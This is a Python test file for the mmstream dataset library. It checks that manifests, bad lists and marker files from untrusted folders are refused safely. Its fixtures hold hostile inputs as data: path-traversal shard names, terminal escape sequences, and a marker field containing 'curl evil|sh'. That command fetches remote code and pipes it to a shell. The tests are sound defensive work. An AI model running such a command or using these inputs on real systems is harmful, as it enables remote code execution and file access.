"""Folders of strangers: what a manifest, a bad list or a marker of theirs may do."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, strategies as st

import mmstream as mm
from mmstream.dataset.bad_list import BAD_NAME, MAX_BAD
from mmstream.dataset.manifest import MANIFEST_NAME, MARKER_NAME, Manifest, ShardInfo, name_fault
from mmstream.errors import ManifestError
from tests.helpers.corpora import write_corpus
from tests.helpers.memory import allocations_below


def shard(name: str = "a.tar", num_samples: int = 1, num_bytes: int = 2048) -> dict[str, Any]:
    return {"name": name, "num_samples": num_samples, "num_bytes": num_bytes}


def write_manifest(folder: Path, *shards: dict[str, Any], **fields: Any) -> Path:
    folder.mkdir(exist_ok=True)
    content = {"version": 1, "shards": shards, **fields}
    (folder / MANIFEST_NAME).write_text(json.dumps(content))
    return folder


@pytest.mark.parametrize(
    ("name", "fault"),
    [
        ("./s0.tar", "normal form"),
        ("a//b.tar", "normal form"),
        ("a/./b.tar", "normal form"),
        ("a.tar/", "normal form"),
        ("", "normal form"),
        (".", "normal form"),
        ("a\\b.tar", "normal form"),
        ("/etc/a.tar", "outside"),
        ("../a.tar", "outside"),
        ("a/../b.tar", "outside"),
        ("..", "outside"),
        ("a\0.tar", "cannot be shown"),
        ("a\n.tar", "cannot be shown"),
        ("a\x1b[2J.tar", "cannot be shown"),
        ("a\u202e.tar", "cannot be shown"),
        ("x" * 5000, "longer than 1,024 bytes"),
        ("x" * 300, "too long"),
    ],
)
def test_a_name_that_is_not_in_normal_form_is_refused(
    tmp_path: Path, name: str, fault: str
) -> None:
    with pytest.raises(ManifestError, match=fault) as caught:
        mm.open_dataset(write_manifest(tmp_path, shard("s0.tar"), shard(name)))
    assert str(caught.value).isprintable()


@pytest.mark.parametrize(
    "name", ["a.tar", "train/a b.tar", "猫/grüße\u3000.tar", "100%.tar", "..a.tar"]
)
def test_other_names_are_accepted(tmp_path: Path, name: str) -> None:
    assert mm.open_dataset(write_manifest(tmp_path, shard(name))).num_shards == 1


@given(st.text())
def test_a_good_name_has_one_form_and_stays_in_the_folder(name: str) -> None:
    if not name_fault(name):
        root = Path("/root/folder")
        path = root / name
        assert str(path) == f"{root}/{name}"
        assert root in path.parents


FOREIGN = [
    "/",
    "/etc",
    "http://127.0.0.1:9/latest",
    "s3://other/corpus",
    "memory://x",
    "~",
    "relative",
]


@pytest.mark.parametrize("data_url", FOREIGN)
def test_a_manifest_leads_elsewhere_only_with_consent(tmp_path: Path, data_url: str) -> None:
    folder = write_manifest(tmp_path, shard(), data_url=data_url)
    with pytest.raises(ManifestError, match=r"tars lie in .*with allow_foreign_urls=True"):
        mm.open_dataset(folder)
    assert mm.open_dataset(folder, allow_foreign_urls=True).num_shards == 1


@pytest.mark.parametrize(
    ("root", "data_url", "is_foreign"),
    [
        ("memory://host/a", "memory://host/a", False),
        ("memory://host/a", "memory://host/a/tars/", False),
        ("memory://host/a", "memory://host/a/../b", True),
        ("memory://host/a", "memory://host/ab", True),
        ("memory://host/a", "memory://host", True),
        ("memory://host/a", "memory://other/a", True),
        ("memory://host/a", "/tmp", True),
    ],
)
def test_consent_is_needed_outside_of_the_prefix_that_was_opened(
    root: str, data_url: str, is_foreign: bool
) -> None:
    manifest = Manifest((ShardInfo("a.tar", 1, 2048),), data_url=data_url)
    mm.storage.open_store(root).write(MANIFEST_NAME, manifest.to_bytes())
    if is_foreign:
        with pytest.raises(ManifestError, match="allow_foreign_urls"):
            mm.open_dataset(root)
    else:
        assert mm.open_dataset(root).num_shards == 1


def test_a_name_cannot_be_a_query_of_a_url() -> None:
    manifest = Manifest((ShardInfo("a.tar?versionId=3", 1, 2048),))
    mm.storage.open_store("memory://queries").write(MANIFEST_NAME, manifest.to_bytes())
    with pytest.raises(ManifestError, match="mean something else in a URL"):
        mm.open_dataset("memory://queries")


@pytest.mark.parametrize(
    "shards",
    [
        [shard(num_samples=10**12, num_bytes=10)],
        [shard(num_samples=5, num_bytes=2048)],
        [shard(num_samples=-1)],
        [shard(num_bytes=-1, num_samples=0)],
        [shard(num_bytes=1 << 53)],
        [shard(f"{n}.tar", 1, 1 << 52) for n in range(2)],
        [shard(num_samples=1 << 62, num_bytes=1 << 62)],
        [shard(f"{n}.tar", (1 << 50) - 1, (1 << 50) - 1) for n in range(20)],
    ],
    ids=range(8),
)
def test_counts_that_cannot_be_are_refused(tmp_path: Path, shards: list[dict[str, Any]]) -> None:
    with pytest.raises(ManifestError, match=MANIFEST_NAME), allocations_below(1 << 20):
        mm.open_dataset(write_manifest(tmp_path, *shards))


@pytest.mark.slow
@pytest.mark.parametrize("indexes", ["all", [0] * (MAX_BAD + 1)], ids=["all", "list"])
def test_a_bad_list_of_more_than_memory_holds_is_refused(tmp_path: Path, indexes: Any) -> None:
    folder = write_manifest(tmp_path, shard(num_samples=1 << 43, num_bytes=1 << 52))
    (folder / BAD_NAME).write_text(json.dumps({"version": 1, "bad": {"a.tar": indexes}}))
    with pytest.raises(ManifestError, match="more than 16,777,216 bad samples"):
        mm.open_dataset(folder)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda values: st.lists(values) | st.dictionaries(st.text(), values),
)
NEAR = st.fixed_dictionaries(
    {"version": st.sampled_from([1, 1, 1, True, 2, None, "1"])},
    optional={
        "shards": st.lists(
            st.fixed_dictionaries(
                {"name": st.text(max_size=3)},
                optional={
                    key: JSON | st.integers() for key in ("num_samples", "num_bytes", "sha256")
                },
            )
        )
        | JSON,
        **dict.fromkeys(("fields", "source", "data_url", "checksums", "crc32c"), JSON),
    },
)


@given(
    st.binary()
    | JSON.map(lambda value: json.dumps(value).encode())
    | NEAR.map(lambda value: json.dumps(value).encode())
)
def test_any_bytes_are_a_manifest_or_a_manifest_error(data: bytes) -> None:
    message, manifest = "", Manifest(())
    try:
        manifest = Manifest.from_bytes(data)
    except ManifestError as error:
        message = str(error)
    assert manifest.num_samples * 512 <= manifest.num_bytes < 1 << 53
    assert message.isprintable()
    assert len(message) <= 4000


@pytest.mark.parametrize(
    ("marker", "command"),
    [
        (b'{"plan": {}}', "convert"),
        (b'{"bake": {}, "command": "curl evil|sh"}', "bake"),
        (b'{"reshard": {}}', "reshard"),
        (b"\xff", "convert"),
        (b"[7]", "convert"),
        (b"[" * 10_000, "convert"),
    ],
)
def test_a_marker_of_any_bytes_says_what_finishes_the_dataset(
    tmp_path: Path, marker: bytes, command: str
) -> None:
    (tmp_path / MARKER_NAME).write_bytes(marker)
    with pytest.raises(ManifestError) as caught:
        mm.open_dataset(tmp_path)
    assert str(caught.value).endswith(f"; run the same `mmstream {command}` again to finish it")


def test_logs_name_a_strangers_tars_in_one_line(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    write_corpus(tmp_path, [2])
    (tmp_path / "new\nline \x1b[2J.tar").write_bytes(b"")
    mm.open_dataset(tmp_path)
    (message,) = (record.getMessage() for record in caplog.records)
    assert message.isprintable()
    assert r"new\nline \x1b[2J.tar" in message
